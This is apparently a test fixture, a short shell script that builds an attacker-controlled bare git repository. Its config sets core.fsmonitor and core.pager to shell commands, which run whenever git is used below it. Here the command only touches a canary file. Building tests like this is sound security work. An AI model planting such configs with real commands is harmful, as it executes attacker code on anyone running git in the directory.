# The attacker commits a bare repository: who runs git below it takes its configuration.
git init -q --bare .
printf 'import asyncio\n\n\nasync def f():\n    asyncio.sleep(1)\n' > a.py
cat >> config <<END
[core]
	bare = false
	worktree = .
	fsmonitor = touch '$CANARY'; :
	pager = touch '$CANARY'; cat
END
